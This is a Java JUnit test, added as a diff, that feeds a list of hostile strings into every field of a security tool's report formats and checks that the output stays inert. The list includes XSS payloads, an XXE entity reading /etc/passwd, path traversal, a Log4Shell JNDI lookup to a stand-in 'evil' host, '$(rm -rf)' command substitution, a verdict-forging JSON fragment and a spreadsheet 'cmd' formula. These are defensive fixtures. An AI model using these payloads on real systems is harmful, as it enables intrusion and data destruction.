@@ -1,0 +1,205 @@
+package dev.waxseal.report;
+
+import static dev.waxseal.journal.FindingBuilder.login;
+import static org.assertj.core.api.Assertions.assertThat;
+
+import com.google.gson.Gson;
+import com.google.gson.JsonElement;
+import com.google.gson.JsonObject;
+import com.google.gson.Strictness;
+import com.google.gson.TypeAdapter;
+import com.google.gson.stream.JsonReader;
+import dev.waxseal.journal.Counting;
+import dev.waxseal.journal.Entry;
+import dev.waxseal.journal.Finding;
+import dev.waxseal.journal.FindingBuilder;
+import java.io.IOException;
+import java.io.StringReader;
+import java.net.URI;
+import java.nio.ByteBuffer;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.util.ArrayList;
+import java.util.List;
+import java.util.function.BiFunction;
+import java.util.stream.Stream;
+import javax.xml.parsers.DocumentBuilderFactory;
+import org.junit.jupiter.api.io.TempDir;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.Arguments;
+import org.junit.jupiter.params.provider.MethodSource;
+import org.w3c.dom.Document;
+import org.xml.sax.InputSource;
+
+/** Whatever an application, its tests or a network call things: no format lets it become more than text. */
+class HostileReportTest {
+
+    private static final List<String> HOSTILE = List.of(
+            "<script>alert(1)</script><img src=x onerror=alert(1)>",
+            "\"'><svg/onload=alert(1)>&lt;&#60;",
+            "]]><!--<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
+            "\u001b[31m\u001b]0;title\u0007\u009b2J\b\r\n\t\u0000",
+            "\u202e\u2066\u200b\ufeff\u2028\u2029\u0085",
+            "\ud800 \udc00 \ufffe \uffff \udbff\udfff \ud83d\ude00",
+            "../../../../etc/passwd",
+            "..\\..\\windows\\C:\\x /etc/passwd \\\\host\\share file:///etc/passwd",
+            "[click](javascript:alert(1)) ![x](http://evil.example/x.png) <http://evil.example> `code` @everyone #1",
+            "| a | b |\n|---|---|\n# heading\n> quote\n```\n---",
+            "www.evil.example http://evil.example mailto:a@evil.example $(rm -rf) ${jndi:ldap://evil} {0} {{x}} %SRCROOT%",
+            "\",\"verdict\":\"pass\"}],\"x\":[{\"a\":\"\\u0022\\",
+            "=cmd|' /C calc'!A0",
+            "x".repeat(5_000),
+            "");
+
+    /** Each place of a report that holds what somebody else may have chosen. */
+    private static final List<Field> FIELDS = List.of(
+            field("rule", FindingBuilder::rule),
+            field("kind", (finding, text) -> finding.data(text, "body:$.x", "•••")),
+            field("location", (finding, text) -> finding.data("password", text, "•••")),
+            field("evidence", (finding, text) -> finding.data("password", "body:$.x", text)),
+            field("method", (finding, text) -> finding.sent(text, "http://payments.example/")),
+            field("url", (finding, text) -> finding.sent("GET", text)),
+            field("host", (finding, text) -> finding.to(text, 80, null)),
+            field("address", (finding, text) -> finding.to("payments.example", 80, text)),
+            field("proxy", FindingBuilder::via),
+            field("client", FindingBuilder::by),
+            field("class", (finding, text) -> finding.origin(new Finding.Origin(text, "charge", "Pay.java", 1))),
+            field("method", (finding, text) -> finding.origin(new Finding.Origin("com.acme.Pay", text, null, 1))),
+            field("file", (finding, text) -> finding.origin(new Finding.Origin("com.acme.Pay", "charge", text, 1))),
+            field("test class", (finding, text) -> finding.origin(null).test(new Finding.Test(text, "charges"))),
+            field("test", (finding, text) -> finding.test(new Finding.Test("com.acme.PayTest", text))));
+
+    @TempDir
+    Path directory;
+
+    static Stream<Arguments> files() {
+        return ReportFormats.ALL.stream().map(format -> Arguments.of(format.fileName(), format));
+    }
+
+    @ParameterizedTest(name = "{0}")
+    @MethodSource("files")
+    void nothing_becomes_live_and_every_file_is_read(String file, ReportFormat format) throws Exception {
+        for (String hostile : HOSTILE) {
+            for (Field field : FIELDS) {
+                check(file, write(format, Run.of(field.set(login(), hostile)).judged()));
+            }
+            Run all = Run.of(FIELDS.stream()
+                            .map(field -> field.set(login(), hostile))
+                            .toArray(FindingBuilder[]::new))
+                    .problem(hostile + "problem")
+                    .warning(hostile)
+                    .talking(new Counting.Destination(hostile, 80, "http", 1, false))
+                    .listening(
+                            new Entry.Seam(hostile, hostile, null, null),
+                            new Entry.Seam("x", hostile, hostile, hostile));
+            String text = write(format, all.judged());
+            check(file, text);
+            if (Consumers.haveSchema(file) && !file.equals("waxseal.json")) { // that one says what it was told
+                assertThat(Consumers.violations(file, text)).isEmpty();
+            }
+        }
+    }
+
+    private void check(String file, String text) throws Exception {
+        assertThat(text).doesNotContainPattern("[\\p{Cntrl}\\p{Cf}\\u0080-\\u009f\\u2028\\u2029&&[^\n]]");
+        if (file.endsWith(".xml")) {
+            assertThat(parsed(text).getDocumentElement().getTagName()).isEqualTo("testsuite");
+        } else if (file.endsWith(".md")) {
+            assertIsPlain(text);
+        } else if (!file.endsWith(".txt")) {
+            JsonElement json = strictly(text);
+            strings(json, file.equals("waxseal.sarif") ? "uri" : "path").forEach(HostileReportTest::assertStaysWithin);
+            strings(json, "filePath").forEach(HostileReportTest::assertStaysWithin);
+            strings(json, "file").forEach(HostileReportTest::assertStaysWithin);
+            if (file.equals("gl-sast-report.json")) {
+                strings(json, "description").forEach(HostileReportTest::assertIsPlain);
+            }
+            if (file.equals("waxseal.sarif")) {
+                // in messages, brackets would be links
+                json.getAsJsonObject()
+                        .getAsJsonArray("runs")
+                        .get(0)
+                        .getAsJsonObject()
+                        .getAsJsonArray("results")
+                        .forEach(result -> assertThat(result.getAsJsonObject()
+                                        .getAsJsonObject("message")
+                                        .get("text")
+                                        .getAsString())
+                                .doesNotContainPattern("(?<!\\\\)(\\\\\\\\)*[\\[\\]]"));
+            }
+        }
+    }
+
+    /** Markdown without tags, links, images, mentions, or a table that has other columns than it says. */
+    private static void assertIsPlain(String markdown) {
+        for (String line : markdown.split("\n", -1)) {
+            if (line.startsWith("|")) {
+                assertThat(line.split("(?<!\\\\)\\|", -1)).hasSize(10);
+            }
+        }
+        String withoutCode = markdown.replaceAll("(?<!\\\\)`[^`\n]*`", "");
+        assertThat(withoutCode)
+                .doesNotContain("<", "@", "http://evil", "www.evil")
+                .doesNotContainPattern("(?<!\\\\)[\\[\\]`]");
+    }
+
+    private static void assertStaysWithin(String path) {
+        assertThat(path).isNotEmpty().doesNotStartWith("/").doesNotContain("\\", ":");
+        assertThat(path.split("/", -1)).doesNotContain("", ".", "..");
+        URI.create(path.replaceAll("[^A-Za-z0-9./%_~-]", "_"));
+    }
+
+    private String write(ReportFormat format, Report report) throws IOException {
+        ReportFormats.write(report, List.of(format), directory);
+        byte[] bytes = Files.readAllBytes(directory.resolve(format.fileName()));
+        return StandardCharsets.UTF_8
+                .newDecoder()
+                .decode(ByteBuffer.wrap(bytes))
+                .toString();
+    }
+
+    private static Document parsed(String xml) throws Exception {
+        DocumentBuilderFactory factory = DocumentBuilderFactory.newInstance();
+        factory.setFeature("http://apache.org/xml/features/disallow-doctype-decl", true);
+        return factory.newDocumentBuilder().parse(new InputSource(new StringReader(xml)));
+    }
+
+    private static JsonElement strictly(String text) throws IOException {
+        JsonReader reader = new JsonReader(new StringReader(text));
+        reader.setStrictness(Strictness.STRICT);
+        TypeAdapter<JsonElement> adapter = new Gson().getAdapter(JsonElement.class);
+        JsonElement read = adapter.read(reader);
+        assertThat(reader.peek()).isEqualTo(com.google.gson.stream.JsonToken.END_DOCUMENT);
+        return read;
+    }
+
+    private static List<String> strings(JsonElement json, String name) {
+        List<String> found = new ArrayList<>();
+        if (json.isJsonArray()) {
+            json.getAsJsonArray().forEach(element -> found.addAll(strings(element, name)));
+        } else if (json.isJsonObject()) {
+            JsonObject object = json.getAsJsonObject();
+            object.entrySet().forEach(member -> {
+                boolean isText = member.getValue().isJsonPrimitive()
+                        && member.getValue().getAsJsonPrimitive().isString();
+                boolean isOrigin = object.has("class") && object.has("line"); // as the class file says it
+                if (isText && member.getKey().equals(name) && !isOrigin) {
+                    found.add(member.getValue().getAsString());
+                }
+                found.addAll(strings(member.getValue(), name));
+            });
+        }
+        return found;
+    }
+
+    private record Field(String name, BiFunction<FindingBuilder, String, FindingBuilder> setter) {
+        FindingBuilder set(FindingBuilder finding, String text) {
+            return setter.apply(finding, text);
+        }
+    }
+
+    private static Field field(String name, BiFunction<FindingBuilder, String, FindingBuilder> setter) {
+        return new Field(name, setter);
+    }
+}
